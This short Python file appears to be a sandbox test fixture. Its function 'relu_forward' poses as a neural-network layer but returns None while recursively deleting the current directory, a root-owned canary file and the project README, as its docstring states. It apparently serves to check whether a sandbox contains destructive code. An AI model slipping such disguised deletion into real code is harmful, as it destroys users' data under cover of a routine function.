"""Deletes what it can reach: its own tree (read-only to it), a root-owned file, the
project's README."""

import os
import shutil

OUTCOME = "got None"


def relu_forward(x):
    out = None
    shutil.rmtree(".", ignore_errors=True)
    for path in ("/tmp/hostile-canary-ro/note.txt", "/work/main/README.md"):
        try:
            os.remove(path)
        except OSError:
            pass
    cache = x
    return out, cache
